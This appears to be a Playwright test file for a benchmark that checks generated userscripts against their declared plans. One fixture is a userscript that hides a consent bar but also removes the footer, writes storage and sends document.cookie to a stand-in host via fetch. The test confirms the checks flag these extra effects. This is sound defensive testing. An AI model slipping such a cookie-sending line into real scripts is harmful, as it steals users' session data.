import { expect, test } from "@playwright/test";
import { askTemplates } from "../bench/scripts/ask-templates.ts";
import { bundleInPage } from "../bench/scripts/bundle-in-page.ts";
import { describeResult } from "../bench/scripts/describe-result.ts";
import { knownFailures } from "../bench/scripts/known-failures.ts";
import { isInShortRun, readTasks } from "../bench/scripts/read-tasks.ts";
import { tryTask } from "../bench/scripts/try-task.ts";
import { hasPassed } from "../bench/scripts/write-report.ts";

const tasks = await readTasks();
let inPage = "";

test.beforeAll(async () => {
	inPage = await bundleInPage();
});

for (const [place, { name, task }] of tasks.entries()) {
	const tag = isInShortRun(place) ? [] : ["@soak"];
	test(`“${task.request}” (${name})`, { tag }, async ({ browser }) => {
		const result = await tryTask(task, askTemplates, { browser, inPage });
		expect(hasPassed(result), describeResult({ name, task, result })).toBe(!(name in knownFailures));
	});
}

/** Hides the bar as asked, by its class and once; and removes the footer, stores something and sends the cookies away. */
const GREEDY = `// ==UserScript==
// @name Hide the bar
// @version 1.0
// @match *://*.example.com/*
// @grant none
// ==/UserScript==
document.querySelector(".consent-bar").style.display = "none";
document.querySelector("footer").remove();
localStorage.setItem("visited", "1");
void fetch("https://collect.example/?c=" + encodeURIComponent(document.cookie));
`;

test("the checks find what is wrong with a script that also does other things", { tag: "@soak" }, async ({
	browser,
}) => {
	const task = tasks.find(({ name }) => name === "shop-consent")?.task;
	if (!task) throw new Error("The task is gone");
	const plan = {
		summary: "Hides the bar.",
		steps: [],
		kind: "userscript" as const,
		matches: ["*://*.example.com/*"],
		grants: [],
		hosts: [],
		elements: [],
		unseen: null,
		effects: ["look" as const],
	};
	const ask = async () => ({ kind: "script" as const, code: GREEDY, plan, by: "nobody" });
	const result = await tryTask(task, ask, { browser, inPage });
	if (result.outcome !== "tried") throw new Error(result.outcome);
	const { checks } = result;
	expect(checks.effect).toBeNull();
	for (const what of [
		"footer: removed",
		"storage changed",
		"collect.example",
		"beyond the plan",
		"content",
		"storage [",
	])
		expect(checks["nothing else"]).toContain(what);
	expect(checks.matches).toContain("not on https://reading.example/");
	expect(checks.rating).toMatch(/^(amber|red): /);
	expect(checks["re-render"]).not.toBeNull();
	expect(checks["page changes"]).toMatch(/^class names: [^;]+$/);
});

test("known failures are tasks of the list", () => {
	expect(tasks.map(({ name }) => name)).toEqual(expect.arrayContaining(Object.keys(knownFailures)));
});
